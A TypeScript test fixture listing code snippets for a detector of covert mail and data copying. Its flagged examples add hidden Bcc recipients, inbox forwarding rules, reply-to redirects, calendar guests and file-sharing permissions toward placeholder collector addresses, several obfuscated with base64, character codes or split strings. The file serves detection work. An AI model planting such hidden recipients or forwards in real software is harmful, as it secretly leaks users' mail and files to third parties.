import type { DetectorExamples } from '../detector.ts';
import { guestExamples } from './email-recipient.guests.examples.ts';
import { inPieces } from './email-recipient.pieces.examples.ts';

const copy = { field: 'bcc', address: 'copy@collect.invalid' };

export const examples: DetectorExamples = {
  bad: [
    {
      code: "client.sendEmail({ From: from, TextBody: body, Bcc: 'copy@collect.invalid' });",
      why: 'the incident itself',
      attributes: copy,
    },
    { code: "payload.Bcc = 'copy@collect.invalid';", why: 'assigned later', attributes: copy },
    {
      code: "payload['b' + 'cc'] = 'copy@collect.invalid';",
      why: 'the key in pieces',
      attributes: copy,
    },
    {
      code: "const extra = { 'BCC': ['copy@collect.invalid'] };",
      why: 'for a spread',
      attributes: copy,
    },
    {
      code: 'const o = { [`bcc`]: `Copy <COPY@collect.invalid>` };',
      why: 'computed, with a name',
      attributes: copy,
    },
    { code: "mail.addBcc('copy@collect.invalid');", why: 'a method', attributes: copy },
    { code: "headers.push('Bcc: copy@collect.invalid');", why: 'a header line', attributes: copy },
    {
      code: "msg.addHeader('Bcc', 'copy@collect.invalid');",
      why: 'a header by name',
      attributes: copy,
    },
    { code: "new Map([['bcc', 'copy@collect.invalid']]);", why: 'an entry', attributes: copy },
    {
      code: "p.bcc = ['copy', 'collect.invalid'].join('@');",
      why: 'the address in pieces',
      attributes: copy,
    },
    {
      code: "p.bcc = Buffer.from('Y29weUBjb2xsZWN0LmludmFsaWQ=', 'base64').toString();",
      why: 'the address in base64',
      attributes: copy,
    },
    {
      code: 'p.bcc = String.fromCharCode(99, 111, 112, 121, 64, 99, 111, 108, 108, 101, 99, 116, 46, 105, 110, 118, 97, 108, 105, 100);',
      why: 'the address in character codes',
      attributes: copy,
    },
    {
      code: "send({ bccRecipients: [{ emailAddress: { address: 'copy@collect.invalid' } }] });",
      why: 'Microsoft Graph',
      attributes: copy,
    },
    {
      code: "sg.send({ personalizations: [{ bcc: [{ email: 'copy@collect.invalid' }] }] });",
      why: 'SendGrid',
      attributes: copy,
    },
    {
      code: "ses.send(new SendEmailCommand({ Destination: { BccAddresses: ['copy@collect.invalid'] } }));",
      why: 'SES',
      attributes: copy,
    },
    {
      code: "const raw = 'Subject: x\\r\\nbcc: copy@collect.invalid\\r\\n\\r\\n' + body;",
      why: 'a raw message',
      attributes: copy,
    },
    { code: "form.append('bcc', 'copy@collect.invalid');", why: 'a form field', attributes: copy },
    {
      code: "const h = { name: 'BCC', value: 'copy@collect.invalid' };",
      why: 'a header as an object',
      attributes: copy,
    },
    { code: "p.bcc = enabled ? 'copy@collect.invalid' : '';", why: 'sometimes', attributes: copy },
    { code: "mail.bcc.push('copy@collect.invalid');", why: 'added to a list', attributes: copy },
    {
      code: 'p.bcc = `audit+${id}@collect.invalid`;',
      why: 'whoever owns the domain reads all of its mail',
      attributes: { field: 'bcc', address: '*@collect.invalid' },
    },
    {
      code: 'function f(input) { return { bcc: input.bcc }; }',
      why: 'a caller decides',
      attributes: { field: 'bcc', address: 'dynamic', source: 'parameter' },
    },
    {
      code: 'const p = { bcc: process.env.COPY };',
      why: 'the environment decides',
      attributes: { field: 'bcc', address: 'dynamic', source: 'environment' },
    },
    {
      code: `Object.assign(p, JSON.parse('{"Bcc":"copy@collect.invalid"}'));`,
      why: 'in JSON text',
      attributes: copy,
    },
    {
      code: 'const form = `to=${to}&bcc=copy%40collect.invalid`;',
      why: 'in a form',
      attributes: copy,
    },
    { code: "Reflect.set(p, 'Bcc', 'copy@collect.invalid');", why: 'reflection', attributes: copy },
    {
      code: "Object.defineProperty(p, 'Bcc', { value: 'copy@collect.invalid' });",
      why: 'a descriptor',
      attributes: copy,
    },
    {
      code: 'client.deliver({ To: `${to},copy@collect.invalid` });',
      why: 'one more among the recipients',
      attributes: { field: 'to', address: 'copy@collect.invalid' },
    },
    {
      code: "const m = { replyTo: 'copy@collect.invalid' };",
      why: 'answers go elsewhere',
      attributes: { field: 'reply-to', address: 'copy@collect.invalid' },
    },
    {
      code: 'function f(to) { return { subject: s, text: t, to }; }',
      why: 'an ordinary mail: told, so that a change of it shows',
      attributes: { field: 'to', address: 'dynamic', source: 'parameter' },
    },
    {
      code: [
        'const people = [];',
        "people.push({ email: 'keep@take.example' });",
        'mailer.send({ to: people, subject, text });',
      ].join('\n'),
      why: 'an entry that is pushed to the list of recipients',
      attributes: { field: 'to', address: 'keep@take.example' },
    },
    {
      path: 'x.py',
      code: [
        'from email.message import EmailMessage',
        'msg = EmailMessage()',
        "msg['Bcc'] = 'keep@take.example'",
      ].join('\n'),
      why: 'a header of a message in Python',
      attributes: { field: 'bcc', address: 'keep@take.example' },
    },
    {
      path: 'x.py',
      code: "msg.add_header('Bcc', 'keep@take.example')",
      why: 'by a method',
      attributes: { field: 'bcc', address: 'keep@take.example' },
    },
    {
      path: 'x.py',
      code: [
        'import smtplib',
        'def send(to, text):',
        "    server = smtplib.SMTP('mail.example')",
        "    server.sendmail('me@mail.example', [to, 'keep@take.example'], text)",
      ].join('\n'),
      why: 'one more than the message says',
      attributes: { field: 'bcc', address: 'keep@take.example' },
    },
    {
      path: 'x.py',
      code: [
        'import boto3',
        "boto3.client('ses').send_email(Source=a, Destination={'BccAddresses': ['keep@take.example']}, Message=m)",
      ].join('\n'),
      why: 'a service of a cloud',
      attributes: { field: 'bcc', address: 'keep@take.example' },
    },
    {
      path: 'x.py',
      code: [
        'from sendgrid.helpers.mail import Bcc',
        "personalization.add_email(Bcc('keep@take.example'))",
      ].join('\n'),
      why: 'a class for the field',
      attributes: { field: 'bcc', address: 'keep@take.example' },
    },
    {
      path: 'x.py',
      code: "client.emails.send(From=sender, Bcc='keep@take.example', Subject=s, HtmlBody=h)",
      why: 'a named argument',
      attributes: { field: 'bcc', address: 'keep@take.example' },
    },
    {
      path: 'x.py',
      code: "raw = f'From: {a}\\r\\nBcc: keep@take.example\\r\\nSubject: x\\r\\n\\r\\n{body}'",
      why: 'a raw message',
      attributes: { field: 'bcc', address: 'keep@take.example' },
    },
    {
      path: 'x.py',
      code: [
        'from email.message import EmailMessage',
        'def send(to):',
        '    message = EmailMessage()',
        '    with connect() as server:',
        "        server.send_message(message, to_addrs=[to, 'keep@take.example'])",
      ].join('\n'),
      why: 'beside the message',
      attributes: { field: 'bcc', address: 'keep@take.example' },
    },
    {
      code: [
        "const helper = { email: 'helper@take.example', responseStatus: 'accepted' };",
        'const attendees = [];',
        'attendees.push(helper);',
        "await calendar.events.insert({ calendarId: 'primary', requestBody: { summary, attendees } });",
      ].join('\n'),
      why: 'a guest of every event',
      attributes: { field: 'attendees', address: 'helper@take.example' },
    },
    {
      code: "settings.filters.create({ criteria: { from: a }, action: { forward: 'keep@take.example' } });",
      why: 'a filter that forwards',
      attributes: { field: 'forward', address: 'keep@take.example' },
    },
    {
      code: "rules.post({ actions: { redirectTo: [{ emailAddress: { address: 'keep@take.example' } }] } });",
      why: 'a rule of an inbox',
      attributes: { field: 'forward', address: 'keep@take.example' },
    },
    {
      code: "export default { async email(message) { await message.forward('keep@take.example'); } };",
      why: 'a mail that is passed on',
      attributes: { field: 'forward', address: 'keep@take.example' },
    },
    {
      code: "drive.permissions.create({ fileId, requestBody: { role: 'reader', type: 'user', emailAddress: 'keep@take.example' } });",
      why: 'a document that is shared',
      attributes: { field: 'shared-with', address: 'keep@take.example' },
    },
    {
      path: 'x.py',
      code: "service.permissions().create(fileId=f, body={'type': 'user', 'role': 'writer', 'emailAddress': 'keep@take.example'})",
      why: 'a document that is shared',
      attributes: { field: 'shared-with', address: 'keep@take.example' },
    },
    {
      path: 'x.py',
      code: "event = {'summary': s, 'attendees': [{'email': 'keep@take.example'}]}",
      why: 'a guest of an event',
      attributes: { field: 'attendees', address: 'keep@take.example' },
    },
    ...guestExamples.bad,
    ...inPieces.bad,
  ],
  good: [
    {
      code: 'events.insert({ summary, attendees: input.attendees });',
      why: 'guests that the caller names',
    },
    {
      code: "const seed = { role: 'admin', email: 'root@desk.example' };",
      why: 'a person with a role',
    },
    {
      code: "const team = [{ role: 'Owner', email: 'ann@desk.io' }]; form({ user: 'root@desk.io', access: 'read' });",
      why: 'people in a list and in a form',
    },
    { code: "router.get('/old', () => ({ redirectTo: '/new', forward: true }));", why: 'pages' },
    { code: "const tunnel = { forward: '8080:80', guests: 4 };", why: 'ports and numbers' },
    { code: 'const schema = { bcc: z.string().email().optional() };', why: 'a schema' },
    {
      code: "const schema = { properties: { bcc: { type: 'string', description: 'Blind copy' } } };",
      why: 'a JSON schema',
    },
    { code: "const countries = { cc: 'Cocos Islands', to: 'Tonga' };", why: 'country codes' },
    { code: 'const { to, cc, bcc } = args;', why: 'taken apart, nothing is sent yet' },
    { code: "const labels = { bcc: 'Blind copy' };", why: 'a label' },
    { code: "router.push({ to: '/home' }); move({ to: position });", why: 'another meaning of to' },
    { code: "const spec = { to: 'package@1.2.3' };", why: 'a version, not an address' },
    { code: "const help = 'bcc: list of addresses that get a copy';", why: 'a help text' },
    { code: 'const p = { bcc: undefined, cc: [] };', why: 'nobody' },
    {
      path: 'x.py',
      code: ["message['subject'] = 'x'", "message['count'] = 3"].join('\n'),
      why: 'other keys',
    },
    {
      path: 'x.py',
      code: "bot.send_message(chat, 'text')",
      why: 'a chat',
    },
    ...guestExamples.good,
    ...inPieces.good,
  ],
};
